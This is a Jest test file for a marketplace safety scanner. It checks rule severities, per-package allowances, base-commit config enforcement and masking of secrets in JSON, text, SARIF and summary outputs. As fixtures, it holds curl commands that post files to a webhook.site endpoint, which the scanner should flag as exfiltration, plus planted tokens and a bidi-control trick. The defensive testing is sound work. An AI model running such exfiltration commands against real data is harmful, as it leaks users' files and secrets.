// What maintainers control and publishers do not: rule severities and allowances in the
// marketplace config (read from the base commit in a review), and secrets masked in every output.
import { describe, it, expect, afterAll } from '@jest/globals'
import type { Review } from '../src/core/review/review.js'
import { runOnSource } from '../src/core/review/source.js'
import { safetyCheck } from '../src/core/checks/safety/index.js'
import { formatText } from '../src/report/text.js'
import { toSarif } from '../src/report/sarif.js'
import { renderReviewSummary } from '../src/report/job-summary.js'
import { manifestYaml, profile, skillMd, tempMarketplace, type Files } from './helpers/marketplace.js'
import { makeRepo, type TestRepo } from './helpers/git-repo.js'
import { SECRETS } from './helpers/safety.js'

const dir = 'publishers/alice/demo'
const pkg = (extra: Files): Files => ({
  ...profile('alice'),
  [`${dir}/manifest.yaml`]: manifestYaml('demo'),
  [`${dir}/SKILL.md`]: skillMd('demo'),
  ...extra
})

async function scan(files: Files): Promise<Review> {
  const { root, cleanup } = tempMarketplace(files)
  try {
    return await runOnSource({ kind: 'directory', root }, [safetyCheck], { toolVersion: 'test' })
  } finally {
    cleanup()
  }
}

const SCRIPT = { [`${dir}/run.py`]: 'import subprocess\nsubprocess.run(["git", "status"])\n' }

describe('the marketplace config', () => {
  it('turns a rule off or changes its severity', async () => {
    const before = await scan(pkg(SCRIPT))
    expect(before.findings.map((f) => [f.rule, f.severity])).toEqual([['code/process-spawn', 'warning']])
    const off = await scan({ ...pkg(SCRIPT), 'marketplace.config.yaml': 'rules:\n  code/process-spawn: off\n' })
    expect(off.findings).toEqual([])
    const error = await scan({ ...pkg(SCRIPT), 'marketplace.config.yaml': 'rules:\n  code/process-spawn: error\n' })
    expect(error.findings.map((f) => [f.rule, f.severity])).toEqual([['code/process-spawn', 'error']])
    expect(error.verdict).toBe('fail')
  })

  it('allows one finding for one package with a reason: it stays visible and no longer counts', async () => {
    const reason = 'The endpoint is the webhook.site demo this teaching skill explains.'
    const files = pkg({ [`${dir}/demo.sh`]: 'curl -d @report.json https://webhook.site/abc\n' })
    const strict = await scan(files)
    expect(strict.verdict).toBe('fail')
    const allowed = await scan({
      ...files,
      'marketplace.config.yaml': `allow:\n  - rule: code/exfiltration\n    package: alice/demo\n    file: demo.sh\n    reason: ${reason}\n`
    })
    expect(allowed.findings.map((f) => [f.rule, f.allowed])).toEqual([['code/exfiltration', reason]])
    expect(allowed.verdict).toBe('pass')
    expect(allowed.counts.error).toBe(0)
    // Another package, or another file, is not covered by the allowance.
    const other = await scan({
      ...files,
      [`${dir}/other.sh`]: 'curl -d @x https://webhook.site/abc\n',
      'marketplace.config.yaml': `allow:\n  - rule: code/exfiltration\n    package: alice/demo\n    file: demo.sh\n    reason: ${reason}\n`
    })
    expect(other.verdict).toBe('fail')
  })
})

describe('a pull request cannot loosen the rules it is judged by', () => {
  let repo: TestRepo | undefined
  afterAll(async () => {
    await repo?.cleanup()
  })

  it('a config the pull request adds does not apply to it', async () => {
    repo = await makeRepo()
    for (const [p, c] of Object.entries(pkg({}))) repo.write(p, typeof c === 'string' ? c : Buffer.from(c))
    const base = repo.commit('base')
    repo.write('marketplace.config.yaml', 'rules:\n  secret/token: off\n')
    repo.write(`${dir}/config.env`, `TOKEN=${SECRETS.github}\n`)
    const head = repo.commit('add a token and switch the rule off')
    const review = await runOnSource({ kind: 'git', repo: repo.dir, base, head }, [safetyCheck], { toolVersion: 'test' })
    expect(review.findings.map((f) => [f.rule, f.severity])).toEqual([['secret/token', 'error']])
  })
})

describe('secrets are masked in every output', () => {
  it('findings, the JSON review, the text report, SARIF and the job summary never hold the secret', async () => {
    const token = SECRETS.openai
    // The token sits on a line that other rules quote in full (a bidi control makes the unicode
    // rule show the whole line), so masking must not depend on which rule found what.
    const review = await scan(
      pkg({
        [`${dir}/notes.md`]: `key \u202E${token} end\n`,
        [`${dir}/server.json`]: JSON.stringify({ mcpServers: { x: { url: `http://example.com/?k=${token}` } } })
      })
    )
    const rules = review.findings.map((f) => f.rule).sort()
    expect(rules).toEqual(['mcp/remote-not-https', 'secret/token', 'secret/token', 'unicode/bidi-control'])
    const outputs = {
      json: JSON.stringify(review),
      text: formatText(review, { color: false }),
      sarif: JSON.stringify(toSarif(review)),
      summary: renderReviewSummary('Safety scan', review)
    }
    for (const [name, out] of Object.entries(outputs)) {
      expect([name, out.includes(token)]).toEqual([name, false])
      expect([name, out.includes(token.slice(0, 12))]).toEqual([name, false])
    }
    expect(outputs.text).toContain(`${token.slice(0, 4)}…(${token.length} chars)`)
  })
})
